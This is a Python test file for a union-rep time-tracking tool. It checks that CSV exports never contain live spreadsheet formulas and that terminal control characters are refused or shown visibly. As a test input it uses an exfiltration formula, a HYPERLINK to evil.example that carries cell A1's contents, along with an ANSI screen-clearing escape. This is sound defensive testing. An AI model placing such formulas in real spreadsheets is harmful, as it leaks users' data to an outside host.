"""What could leak or mislead: spreadsheet formulas in every CSV the app writes, and terminal control
characters in names, purposes and a bundle's sender label (refused on the way in, shown visibly on
the way out)."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json

import pytest

from unionrep.cli import main as cli
from unionrep.core.errors import ValidationError
from unionrep.core.model import Entry, Rep
from unionrep.core.spreadsheet import csv_bytes, read_cell, safe_cell
from unionrep.core.text import check_no_controls, printable

D = dt.date
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
ESC = "\x1b[2J\x1b[31m"  # clear the screen, turn red


def test_safe_cell_quotes_what_a_spreadsheet_would_run_and_nothing_else() -> None:
    for risky in ("=1+1", "+44 1234", "-A1", "@SUM(A1)", "\tx", "\rx", FORMULA):
        assert safe_cell(risky) == "'" + risky
        assert read_cell(safe_cell(risky)) == risky
    for plain in ("Cyfarfod", "'quoted already", "-2.50", "+3", "12", "", None):
        assert safe_cell(plain) == ("" if plain is None else plain)
    rows = list(csv.reader(io.StringIO(csv_bytes([["=cmd", "-1.5", "ok"]]).decode("utf-8-sig"))))
    assert rows == [["'=cmd", "-1.5", "ok"]]


@pytest.fixture
def branch(session, db_path):
    rep = session.reps.add(Rep(name=FORMULA, union_name="UNSAIN Cymru")).result
    session.roles.assign(rep.id, "steward", D(2024, 4, 1))
    session.entries.add(Entry(rep.id, "steward", D(2025, 6, 13), 150, "duties", purpose="@SUM(A1:A9)",
                              status="taken"))
    session.store.db.close()
    return db_path, rep


@pytest.mark.parametrize("command", [["statement", "REP", "--year", "2025"], ["summary", "--year", "2025"],
                                     ["csv", "export"]])
def test_no_csv_the_app_writes_holds_a_live_formula(branch, tmp_path, capsys, command) -> None:
    db_path, rep = branch
    target = tmp_path / "out.csv"
    args = [rep.id if a == "REP" else a for a in command]
    args += [str(target)] if command[0] == "csv" else ["-o", str(target)]
    assert cli.main(["--db", str(db_path), *args]) == 0, capsys.readouterr()
    cells = [c for row in csv.reader(io.StringIO(target.read_bytes().decode("utf-8-sig"))) for c in row]
    assert any(FORMULA in c for c in cells)  # the name is there...
    live = [c for c in cells if c.startswith(("=", "+", "@")) or (c.startswith("-") and not c[1:2].isdigit())]
    assert live == []  # ...but never as a formula


def test_control_characters_are_refused_in_text_fields_naming_the_field(tmp_path, capsys) -> None:
    db = tmp_path / "branch.db"
    assert cli.main(["--db", str(db), "init"]) == 0
    capsys.readouterr()
    assert cli.main(["--db", str(db), "--json", "rep", "add", "--name", f"Dafydd{ESC}"]) == 1
    assert json.loads(capsys.readouterr().out)["error"] == (
        "name: must not contain the control character U+001B (character 7)")
    assert cli.main(["--db", str(db), "--lang", "cy", "rep", "add", "--name", "Nul\x00l"]) == 1
    assert "ni chaiff gynnwys y nod rheoli U+0000 (nod 4)" in capsys.readouterr().err
    assert cli.main(["--db", str(db), "--json", "rep", "list"]) == 0
    assert json.loads(capsys.readouterr().out) == []  # nothing was written
    with pytest.raises(ValidationError, match=r"purpose: must not contain the control character U\+0007"):
        check_no_controls("purpose", "ding\x07")
    assert check_no_controls("notes", "two\nlines\tand a tab") == "two\nlines\tand a tab"
    with pytest.raises(ValidationError):
        check_no_controls("name", "two\nlines")


def test_csv_import_refuses_a_row_with_a_control_character(session, db_path, tmp_path, capsys) -> None:
    rep = session.reps.add(Rep(name="Dafydd")).result
    session.roles.assign(rep.id, "steward", D(2024, 4, 1))
    session.store.db.close()
    sheet = tmp_path / "in.csv"
    sheet.write_text(f"Date,Hours,Purpose\n2025-06-13,2,ok\n2025-06-14,2,bad{ESC}\n", encoding="utf-8")
    with pytest.raises(SystemExit) as refused:
        cli.main(["--db", str(db_path), "csv", "import", str(sheet), "--rep", "Dafydd"])
    assert refused.value.code == 1
    out = capsys.readouterr().out
    assert "row 3" in out.lower() and "Purpose" in out and "U+001B" in out
    assert "\x1b" not in out


def test_the_cli_shows_control_characters_already_stored_visibly(session, db_path, capsys) -> None:
    rep = session.reps.add(Rep(name="Dafydd")).result
    # as an older version may have stored it, past today's check
    session.store.db.execute("UPDATE reps SET name = ? WHERE id = ?", [f"Dafydd{ESC}\x07", rep.id])
    session.store.db.close()
    assert cli.main(["--db", str(db_path), "rep", "list"]) == 0
    out = capsys.readouterr().out
    assert "\x1b" not in out and "\x07" not in out
    assert "Dafydd\\x1b[2J\\x1b[31m\\x07" in out
    assert printable("line one\nline two\r\x9b") == "line one\nline two\\r\\x9b"
